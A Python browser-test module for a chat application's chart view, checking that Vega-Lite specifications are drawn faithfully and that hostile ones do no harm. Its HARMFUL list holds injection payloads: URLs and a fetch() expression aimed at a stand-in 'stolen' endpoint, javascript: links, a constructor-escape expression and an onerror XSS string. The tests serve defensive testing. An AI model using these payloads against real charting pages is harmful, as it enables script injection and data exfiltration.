"""The page draws what the service gives it, exactly; and where that means harm, the page itself does none."""

import json
import random
import re

import pytest

from svcchat_magic.analyst.events import AnswerText, SqlFinished, SqlStarted
from svcchat_magic.semantic.query.query import Column, Rows
from tests.charts.chart_mutations import COLUMNS, ROWS, TYPES, mutated_specs
from tests.service.conftest import ScriptedAnalyst

pytestmark = pytest.mark.browser

QUESTIONS = ("Revenue by channel and month in 2023", "Top 5 products by revenue in 2024")
CHART = "/api/v1/embed/result-chart"
EVIL = "http://127.0.0.1:9/stolen"
RESULT = Rows(tuple(map(Column, COLUMNS, TYPES)), tuple(map(tuple, ROWS)), len(ROWS))
BARS = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "description": "bars",
    "data": {"values": [{"kind": "a", "amount": 1}, {"kind": "b", "amount": 2}]},
    "mark": "bar",
    "encoding": {"x": {"field": "kind"}, "y": {"field": "amount", "type": "quantitative"}},
}
# What a service that was taken over could give in place of a chart: each would run, open or fetch something.
HARMFUL = (
    {**BARS, "data": {"url": EVIL}},
    {**BARS, "mark": {"type": "image", "url": EVIL, "width": 9, "height": 9}},
    {**BARS, "mark": {"type": "bar", "href": EVIL}},
    {**BARS, "encoding": {**BARS["encoding"], "href": {"value": "javascript:alert(1)"}}},
    {**BARS, "transform": [{"calculate": "alert(1)", "as": "amount"}]},
    {**BARS, "transform": [{"filter": "(stolen = 1) || fetch('http://127.0.0.1:9/stolen')"}]},
    {**BARS, "params": [{"name": "p", "expr": "window.alert(1)"}]},
    {**BARS, "title": {"text": {"expr": "constructor.constructor('alert(1)')()"}}},
    {**BARS, "usermeta": {"embedOptions": {"ast": False, "loader": {"baseURL": EVIL}}}},
    {**BARS, "config": {"axis": {"labelExpr": "open('http://127.0.0.1:9/stolen')"}}},
    {**BARS, "description": "</script><img src=x onerror=alert(1)>"},
    {**BARS, "mark": {"type": "geoshape"}, "projection": {"type": "mercator"}},
    {"$schema": "https://vega.github.io/schema/vega/v5.json", "signals": [{"name": "s", "init": "alert(1)"}]},
    {"mark": None},
    [],
    "chart",
    None,
)


def answer(specs):
    for at, spec in enumerate(specs):
        yield SqlStarted(at, "SELECT 1", f"Result {at}", "", "")
        yield SqlFinished(at, RESULT, f"r{at}", json.dumps(spec))

    yield AnswerText("So much.")


def wait_until_drawn(chat, count):
    """Wait until each of so many results has a chart, or says why not."""
    chat.page.wait_for_function(
        """count => [...document.querySelectorAll(".result")].filter(each => each.querySelector(".chart svg")
            || /No chart: |could not be/.test(each.textContent)).length === count""",
        arg=count,
    )


@pytest.fixture
def given(chat):
    """What the service has given for each chart that was asked for."""
    replies = []

    def note(response):
        if response.url.endswith(CHART) and response.ok:
            replies.append(response)

    chat.page.on("response", note)
    yield lambda: [each.json() for each in replies]
    chat.page.remove_listener("response", note)


@pytest.fixture
def handed_over(chat):
    """Let the page's chart library note each specification that it is given."""

    def noting(route):
        code = route.fetch().text()
        (name,) = re.findall(r"(\w+) as compile\b", code)
        noted = f"(globalThis.handedOver ??= []).push(JSON.stringify(spec)); return {name}(spec, more);"
        code = code.replace(f"{name} as compile", "noted as compile")
        route.fulfill(
            body=f"const noted = (spec, more) => {{ {noted} }};\n{code}",
            headers={"Content-Type": "text/javascript"},
        )

    chat.page.route("**/vendor/vega.js", noting)
    yield lambda: [json.loads(each) for each in chat.page.evaluate("globalThis.handedOver")]
    chat.page.unroute("**/vendor/vega.js")


def in_order(charts):
    """The charts as comparable texts; 1.0 and 1 are one number to a browser."""
    return sorted(
        json.dumps(json.loads(json.dumps(each), parse_float=_number), sort_keys=True) for each in charts
    )


def _number(text):
    return int(number) if (number := float(text)).is_integer() else number


def test_what_is_drawn_is_what_the_service_gave(chat, service, given, handed_over):
    chat.open(service)
    for question in QUESTIONS:
        chat.ask_and_wait(question)

    wait_until_drawn(chat, len(QUESTIONS))

    charts = [each["chart"] for each in given()]
    assert len(charts) == len(QUESTIONS)
    assert in_order(handed_over()) == in_order(charts)
    labels = chat.page.locator(".chart[role=img]").evaluate_all("all => all.map(each => each.ariaLabel)")
    assert sorted(labels) == sorted(each["description"] for each in charts)


def test_a_chart_is_asked_for_anew_when_the_page_has_another_width(chat, service, given):
    chat.open(service)
    chat.ask_and_wait(QUESTIONS[0])
    wait_until_drawn(chat, 1)
    wide = chat.page.locator(".chart svg").evaluate("svg => svg.clientWidth")

    chat.page.set_viewport_size({"width": 390, "height": 800})
    chat.page.wait_for_function(
        "wide => document.querySelector('.chart svg').clientWidth < Math.min(wide, 390)", arg=wide
    )

    widths = [each["chart"]["width"] for each in given()]
    assert widths == [wide, chat.page.locator(".chart svg").evaluate("svg => svg.clientWidth")]


@pytest.mark.case("V01")
@pytest.mark.case("V02")
@pytest.mark.case("V03")
@pytest.mark.case("V04")
@pytest.mark.case("V05")
@pytest.mark.case("V06")
@pytest.mark.case("V08")
@pytest.mark.case("V09")
@pytest.mark.case("V13")
def test_mutated_specifications_are_drawn_or_refused_and_fetch_nothing(chat, start, given, handed_over):
    specs = list(mutated_specs(random.Random(7), 120))
    service = start(ScriptedAnalyst(tuple(answer(specs)), waits=False))
    chat.open(service)
    chat.ask_and_wait("why?")

    wait_until_drawn(chat, len(specs))

    replies = given()
    drawn = chat.page.locator(".chart svg").count()
    foreign = chat.foreign_requests(service.base_url)
    print(f"specifications: {len(specs)}, drawn: {drawn}, requests to other hosts: {len(foreign)}")
    assert len(replies) == len(specs)
    assert len(specs) // 10 < drawn <= sum("chart" in each for each in replies) < len(specs)
    assert in_order(handed_over()) == in_order(each["chart"] for each in replies if "chart" in each)
    assert (foreign, chat.dialogs, chat.violations(), chat.strangers(), chat.complaints) == ([],) * 5


@pytest.mark.case("V01")
@pytest.mark.case("V03")
@pytest.mark.case("V04")
@pytest.mark.case("V05")
@pytest.mark.case("V06")
@pytest.mark.case("V08")
@pytest.mark.case("V12")
def test_the_page_does_no_harm_with_whatever_it_is_given(chat, start):
    """The second belt: an interpreter for expressions, a loader that refuses, and the page's own policy."""
    service = start(ScriptedAnalyst(tuple(answer([BARS] * len(HARMFUL))), waits=False))
    chat.open(service)

    def reply(route):
        at = int(route.request.post_data_json["uuid"].removeprefix("r"))
        route.fulfill(json={"chart": HARMFUL[at]})

    chat.page.route(f"**{CHART}", reply)
    chat.ask_and_wait("why?")
    wait_until_drawn(chat, len(HARMFUL))
    for each in chat.page.locator(".chart svg .mark-rect path").all():
        each.click(force=True)

    drawn = chat.page.locator(".chart svg").count()
    links = chat.page.locator("#turns a, #turns svg a").count()
    chat.page.unroute(f"**{CHART}")
    assert (chat.foreign_requests(service.base_url), chat.dialogs, chat.violations()) == ([], [], [])
    assert links == 0
    assert all(
        each.startswith('<image xlink:href=""') for each in chat.strangers()
    )  # it was refused its address
    assert not chat.page.evaluate("'stolen' in window")
    assert 0 < drawn < len(HARMFUL)
    assert len(chat.page.context.pages) == 1


def test_a_chart_that_cannot_be_loaded_says_so_and_can_be_tried_again(chat, service):
    chat.open(service)
    refusals = []

    def refuse(route):
        refusals.append(route.request.url)
        route.fulfill(status=500, json={"error": {"code": "x", "message": "y", "requestId": "z"}})

    chat.page.route(f"**{CHART}", refuse)
    turn = chat.ask_and_wait(QUESTIONS[0])
    chat.page.get_by_text("This chart could not be loaded; see the table.").wait_for()
    turn.get_by_role("tab", name="Table").click()
    assert turn.locator("td").count() > 0
    turn.get_by_role("tab", name="Chart").click()

    chat.page.unroute(f"**{CHART}")
    turn.get_by_role("button", name="Try again").click()

    wait_until_drawn(chat, 1)
    assert len(refusals) == 1


def test_a_busy_service_is_asked_again(chat, service):
    chat.open(service)
    busy = [429, 503]

    def refuse_at_first(route):
        if busy:
            body = {"error": {"code": "too_busy", "message": "Later.", "requestId": "z"}}
            route.fulfill(status=busy.pop(), json=body)
        else:
            route.continue_()

    chat.page.route(f"**{CHART}", refuse_at_first)
    chat.ask_and_wait(QUESTIONS[0])
    chat.wait_for_charts(1)
    chat.page.unroute(f"**{CHART}")

    assert busy == []


def test_a_session_that_is_over_is_told_when_a_chart_is_asked_for(chat, service):
    chat.open(service)

    def refuse(route):
        body = {"error": {"code": "not_authenticated", "message": "Over.", "requestId": "z"}}
        route.fulfill(status=401, json=body)

    chat.page.route(f"**{CHART}", refuse)
    chat.ask("Revenue by month in 2024")

    chat.page.get_by_text("This session is over.").wait_for()
    chat.page.unroute(f"**{CHART}")
